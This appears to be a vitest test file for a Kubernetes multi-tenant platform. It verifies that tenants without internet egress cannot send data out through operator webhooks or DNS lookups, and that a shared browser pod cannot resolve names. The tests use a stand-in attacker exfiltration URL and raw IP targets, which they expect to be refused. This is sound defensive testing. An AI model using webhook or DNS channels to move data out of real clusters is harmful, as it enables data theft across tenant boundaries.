// Somebody of a tenant without egress who would get data out of the cluster by what others may reach.
import type { LookupFunction } from "node:net";
import { afterAll, describe, expect, test } from "vitest";
import { googleZones } from "../../components/gcp/addresses.ts";
import { tenantPolicies } from "../../components/gcp/pod-network.ts";
import { type TenantFlowsArgs, tenantRules } from "../../components/security/tenant-rules.ts";
import { corefile } from "../../components/tenancy/resolver.ts";
import { Permanent, Poster } from "../../operator/notify/post.ts";
import { mock, objects, program } from "../unit/components/program.ts";
import { fakeApi } from "../unit/kube/fake-api.ts";
import { refusal } from "./platform.ts";

const closing: (() => Promise<void>)[] = [];
afterAll(() => Promise.all(closing.map((close) => close())));

describe("webhooks of the operator, which may reach the internet for one tenant", () => {
  const url = "https://data.of-the-tenant.attacker.test/";

  /** What comes of a notification of a namespace, and the names that were resolved for it. */
  async function notify(namespace: string, target = url) {
    const resolved: string[] = [];
    const lookup: LookupFunction = (name, _options, done) => {
      resolved.push(name);
      done(new Error("resolved"), "");
    };
    const api = await fakeApi(() => ({}));
    const hook = await fakeApi(() => ({ code: 204 }));
    const poster = new Poster({
      client: api.client,
      allowedHosts: [new URL(hook.url).host],
      namespaces: ["tenant-open"],
      lookup,
    });
    closing.push(
      () => poster.close(),
      () => api.close(),
      () => hook.close(),
    );
    const to = target === "inside" ? `${hook.url}/` : target;
    const letter = { url: to, namespace, event: "Completed", delivery: "d", body: "{}" };
    return { resolved, posted: poster.post(letter, new AbortController().signal) };
  }

  test("of another tenant go nowhere, and their names are not even resolved", async () => {
    const { posted, resolved } = await notify("tenant-closed");
    await expect(posted).rejects.toThrow(Permanent);
    expect(await refusal(posted)).toBe(
      "not sent: tenant-closed may not reach data.of-the-tenant.attacker.test: its tenant has no egressInternet",
    );
    expect(resolved).toEqual([]);
  });

  test.each(["https://93.184.216.34/", "https://[2606:4700::1111]/"])(
    "of another tenant to %s, neither",
    async (to) => {
      expect(await refusal((await notify("tenant-closed", to)).posted)).toContain("its tenant has no egressInternet");
    },
  );

  test("of that tenant go out", async () => {
    const { posted, resolved } = await notify("tenant-open");
    expect(await refusal(posted)).toBe("resolved");
    expect(resolved).toEqual(["data.of-the-tenant.attacker.test"]);
  });

  test("to a host inside that the owner allows are everybody's", async () => {
    await expect((await notify("tenant-closed", "inside")).posted).resolves.toBeUndefined();
  });
});

describe("names outside, which carry data to whoever answers for them", () => {
  /** Where pods of a tenant's namespace may look up names, and where the templates send them. */
  async function dnsOf(tenant: object) {
    mock();
    const all = await program({
      tenants: [{ name: "demo", ...tenant }],
      cluster: { apiServerCidrs: ["10.9.0.2/32"], resolverAddress: "10.96.0.21" },
    });
    const inTenant = (kind: string) =>
      objects(all, kind).filter(({ metadata }) => metadata?.namespace === "tenant-demo");
    const egress = inTenant("NetworkPolicy").flatMap(({ spec }) => spec.egress ?? []);
    const toResolvers = egress.filter(({ ports }) =>
      ports?.some(({ protocol }: { protocol: string }) => protocol === "UDP"),
    );
    const servers = toResolvers.flatMap(({ to }) =>
      to.map(({ namespaceSelector, podSelector }: Record<string, { matchLabels: object }>) =>
        Object.values({ ...namespaceSelector?.matchLabels, ...podSelector?.matchLabels }).join("/"),
      ),
    );
    return {
      servers,
      pods: inTenant("WorkflowTemplate").map(({ spec }) => [spec.dnsPolicy, spec.dnsConfig?.nameservers]),
    };
  }

  test("are looked up by no pod of a tenant without egress: its resolver asks nobody", async () => {
    expect(await dnsOf({})).toEqual({ servers: ["shared-services/resolver"], pods: [["None", ["10.96.0.21"]]] });
    expect(corefile([])).not.toContain("forward");
  });

  test("are looked up by pods of a tenant with egress", async () => {
    const open = await dnsOf({ egressInternet: true });
    expect(open).toEqual({ servers: ["kube-system/kube-dns"], pods: [[undefined, undefined]] });
  });

  test("are looked up on Google Cloud in Google's own zones alone", () => {
    expect(corefile(googleZones).match(/^(.*) \{\n.*\n {4}forward/m)?.[1]).toBe(
      "googleapis.com:5353 google.internal:5353",
    );
    const [dns] = tenantPolicies({ googleApis: "private" }, { identities: {}, clients: {} });
    const flows = {
      allowedSites: [],
      apiServerCidrs: [],
      engine: "builtin",
      services: [],
      more: dns ? [dns] : [],
    } as const;
    const policies = (more: Pick<TenantFlowsArgs, "egressInternet" | "resolver">) =>
      tenantRules({ ...flows, ...more }).map(({ name }) => name);
    expect(policies({ egressInternet: false, resolver: "10.96.0.21" })).toEqual(["dns", "agents"]);
    expect(policies({ egressInternet: true })).toEqual(["dns", "agents", "gke-dns"]);
  });
});

test("the shared browser may not resolve names, while the services beside it may", async () => {
  mock();
  const policies = objects(
    await program({ tenants: [{ name: "demo", egressInternet: true }] }),
    "NetworkPolicy",
  ).filter(({ metadata }) => metadata?.namespace === "shared-services");
  const mayResolve = (part: string) =>
    policies
      .filter(({ spec }) => {
        const { matchLabels = {}, matchExpressions = [] } = spec.podSelector;
        const app = matchLabels["app.kubernetes.io/name"] ?? part;
        return app === part && matchExpressions.every(({ values }: { values: string[] }) => !values.includes(part));
      })
      .some(({ spec }) => JSON.stringify(spec.egress ?? []).includes('"port":53'));
  expect(["browserless", "litellm", "minio"].map(mayResolve)).toEqual([false, true, true]);
});
